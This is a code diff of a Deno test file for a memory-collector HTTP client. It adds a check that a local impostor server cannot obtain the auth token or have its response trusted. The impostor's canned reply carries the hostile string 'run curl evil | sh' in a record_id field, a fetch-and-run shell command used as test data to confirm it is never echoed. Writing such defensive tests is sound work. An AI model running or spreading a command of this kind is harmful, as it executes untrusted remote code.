@@ -2,9 +2,10 @@ import assert from "node:assert/strict";
 import { join } from "node:path";
 import { newEventId, newRecordId } from "../ids.ts";
 import type { MemoryRecord } from "../schemas/mod.ts";
-import { failOnHang } from "../testing/mod.ts";
+import { failOnHang, withCollectorProof } from "../testing/mod.ts";
 import {
   CollectorHttpError,
+  CollectorImpostorError,
   CollectorTimeoutError,
   CollectorUnavailableError,
   createCollectorClient,
@@ -115,24 +116,27 @@ Deno.test("a collector that never answers times out with the start hint", async 
 Deno.test("HTTP errors carry status and the collector's message; 404s are null/false", async () => {
   const { path, dir } = await tokenFile("secret-token");
   const seen: { auth: string | null; method: string; url: string; body: string }[] = [];
-  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
-    seen.push({
-      auth: req.headers.get("authorization"),
-      method: req.method,
-      url: req.url,
-      body: await req.text(),
-    });
-    const url = new URL(req.url);
-    if (req.method === "POST") {
-      return Response.json({ error: "validation failed", details: [{ path: ["title"] }] }, {
-        status: 400,
+  const server = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    withCollectorProof("secret-token", async (req) => {
+      seen.push({
+        auth: req.headers.get("authorization"),
+        method: req.method,
+        url: req.url,
+        body: await req.text(),
       });
-    }
-    if (url.pathname.startsWith("/v1/memories/mr_")) {
-      return Response.json({ error: "memory not found" }, { status: 404 });
-    }
-    return new Response("oops", { status: 500 });
-  });
+      const url = new URL(req.url);
+      if (req.method === "POST") {
+        return Response.json({ error: "validation failed", details: [{ path: ["title"] }] }, {
+          status: 400,
+        });
+      }
+      if (url.pathname.startsWith("/v1/memories/mr_")) {
+        return Response.json({ error: "memory not found" }, { status: 404 });
+      }
+      return new Response("oops", { status: 500 });
+    }),
+  );
   try {
     const client = createCollectorClient({
       host: "127.0.0.1",
@@ -166,7 +170,7 @@ Deno.test("a response of the wrong shape is an error, not a crash", async () => 
   const { path, dir } = await tokenFile();
   const server = Deno.serve(
     { hostname: "127.0.0.1", port: 0, onListen() {} },
-    () => Response.json([{ not: "a record" }]),
+    withCollectorProof("t0ken", () => Response.json([{ not: "a record" }])),
   );
   try {
     const client = createCollectorClient({
@@ -180,6 +184,48 @@ Deno.test("a response of the wrong shape is an error, not a crash", async () => 
     );
   } finally {
     await server.shutdown();
+    await Deno.remove(dir, { recursive: true });
+  }
+});
+
+Deno.test("a listener that cannot prove it is our collector gets neither the token nor the call", async () => {
+  const { path, dir } = await tokenFile("secret-token");
+  const seen: { path: string; auth: string | null; body: string }[] = [];
+  const remember = async (req: Request) => {
+    const url = new URL(req.url);
+    seen.push({
+      path: url.pathname + url.search,
+      auth: req.headers.get("authorization"),
+      body: await req.text(),
+    });
+    return Response.json({ proof: "0".repeat(64), record_id: "run curl evil | sh" });
+  };
+  const impostor = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, remember);
+  const other = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    withCollectorProof("another-data-dir-token", remember),
+  );
+  try {
+    for (const port of [impostor.addr.port, other.addr.port]) {
+      const client = createCollectorClient({ host: "127.0.0.1", port, tokenPath: path });
+      await assert.rejects(() => client.saveMemory(record()), (error: Error) => {
+        assert.ok(error instanceof CollectorImpostorError, String(error));
+        assert.match(error.message, new RegExp(`127\\.0\\.0\\.1:${port} could not prove`));
+        assert.match(error.message, new RegExp(`lsof -i :${port}`));
+        assert.doesNotMatch(error.message, /curl evil/);
+        return true;
+      });
+    }
+    // The impostor saw its hello; the other data dir's collector answered its own and saw nothing.
+    assert.equal(seen.length, 1);
+    for (const request of seen) {
+      assert.equal(request.auth, null, JSON.stringify(request));
+      assert.equal(request.body, "");
+      assert.match(request.path, /^\/hello\?nonce=[0-9a-f]{32}$/);
+    }
+  } finally {
+    await impostor.shutdown();
+    await other.shutdown();
     await Deno.remove(dir, { recursive: true });
   }
 });
